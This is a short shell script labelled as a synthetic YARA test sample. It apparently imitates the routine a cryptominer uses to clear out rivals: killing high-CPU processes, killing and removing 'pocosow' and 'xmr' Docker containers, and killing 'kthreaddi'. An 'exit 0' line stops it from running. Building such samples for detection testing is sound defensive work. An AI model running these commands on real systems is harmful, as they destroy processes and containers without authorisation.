#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run (rivals killed by CPU share and as containers)
ps aux | grep -v grep | awk '$3>45.0{print $2}' | xargs kill -9
docker ps | grep 'pocosow' | awk '{print $1}' | xargs -I % docker kill %
docker ps -a | grep 'xmr' | awk '{print $1}' | xargs -I % docker rm -f %
pkill -f kthreaddi
